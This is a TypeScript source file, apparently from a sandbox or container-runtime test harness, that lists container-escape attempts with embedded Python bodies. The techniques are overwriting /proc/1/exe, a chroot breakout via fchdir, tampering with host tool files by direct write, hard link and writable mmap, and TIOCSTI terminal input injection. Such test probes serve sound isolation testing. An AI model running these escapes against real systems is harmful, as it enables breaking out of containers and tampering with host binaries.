import type { Attempt } from '../attempt.ts'

const needsRoot: NonNullable<Attempt['controlObstacle']> = (stage) => (stage.isRoot ? null : 'needs root')

/** Ways that have worked against container runtimes. */
export const PROC_TRICKS: readonly Attempt[] = [
  {
    name: 'overwrite the program of process 1',
    aim: 'kernel',
    controlObstacle: () => 'process 1 of a host may be out of reach; any other process is tried below',
    body: `
handle = os.open("/proc/1/exe", os.O_PATH)
for path in ("/proc/1/exe", "/proc/self/fd/%d" % handle):
    if os.access(path, os.W_OK): return path
raise OSError("not writable")`,
  },
  {
    name: 'overwrite the program of any other process',
    aim: 'kernel',
    controlObstacle: needsRoot,
    body: `
for pid in pids():
    if os.access("/proc/%s/exe" % pid, os.W_OK): return pid
raise OSError("none is writable")`,
  },
  {
    name: 'leave a root by chroot',
    aim: 'host',
    controlObstacle: needsRoot,
    parameters: (stage) => [stage.secretFile],
    body: `
import tempfile
outside = os.open(".", os.O_RDONLY)
os.chroot(tempfile.mkdtemp())
os.fchdir(outside)
for _ in range(64): os.chdir("..")
os.chroot(".")
return open(argv[0]).read()`,
  },
  {
    name: 'change the tools of the host',
    aim: 'host',
    controlObstacle: needsRoot,
    parameters: (stage) => [stage.toolFile],
    happened: (stage) => stage.toolChanged,
    body: 'open(argv[0], "r+").write("evil")',
  },
  {
    name: 'change the tools of the host by a hard link',
    aim: 'host',
    controlObstacle: needsRoot,
    parameters: (stage) => [stage.toolFile],
    happened: (stage) => stage.toolChanged,
    body: `
import tempfile
link = tempfile.mkdtemp(dir=os.path.dirname(argv[0]) if os.access(os.path.dirname(argv[0]), os.W_OK) else "/var/tmp") + "/link"
try:
    os.link(argv[0], link)
    open(link, "r+").write("evil")
finally:
    if os.path.exists(link): os.unlink(link)
    os.rmdir(os.path.dirname(link))`,
  },
  {
    name: 'change the tools of the host by a writable mapping',
    aim: 'host',
    controlObstacle: needsRoot,
    parameters: (stage) => [stage.toolFile],
    happened: (stage) => stage.toolChanged,
    body: `
import mmap
file = os.open("/proc/self/fd/%d" % os.open(argv[0], os.O_PATH), os.O_RDWR)
mapping = mmap.mmap(file, 4)
mapping[:4] = b"evil"
mapping.flush()`,
  },
  {
    name: "push input into the host's terminal",
    aim: 'host',
    controlObstacle: () => 'a test has no terminal of its own',
    body: `
import fcntl
terminal = os.open("/dev/tty", os.O_RDWR)
fcntl.ioctl(terminal, 0x5412, b"x")
return "pushed"`,
  },
]
